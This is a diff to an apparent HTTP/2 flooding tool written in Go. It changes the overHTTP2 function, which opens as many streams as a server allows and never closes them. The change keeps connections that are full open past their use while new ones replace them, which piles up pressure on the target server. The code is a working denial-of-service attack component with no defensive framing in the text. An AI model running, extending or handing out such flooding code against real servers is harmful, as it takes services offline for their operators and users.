@@ -99,13 +99,19 @@ func frame(kind, flags byte, stream uint32, payload []byte) []byte {
 }
 
 // overHTTP2 opens a stream after the other, as many as the server allows at once,
-// and ends none. Each head after the first one takes 15 bytes.
+// and ends none. Each head after the first one takes 15 bytes. Where heads alone are
+// sent, a connection that is full stays open, and another one goes on in its place.
 func (f *flood) overHTTP2(ctx context.Context) {
 	conn, end, err := f.dial(ctx)
 	if err != nil {
 		return
 	}
-	defer end()
+	full := false
+	defer func() {
+		if !full { // else it ends with ctx
+			end()
+		}
+	}()
 	var mu sync.Mutex // of writing
 	write := func(b []byte) error {
 		mu.Lock()
@@ -177,6 +183,9 @@ func (f *flood) overHTTP2(ctx context.Context) {
 			stream, block = stream+2, next
 		}
 		if len(text) > 0 && write(text) != nil {
+			return
+		}
+		if full = f.body == 0 && due > 0 && open.Load() >= 240; full {
 			return
 		}
 		select {
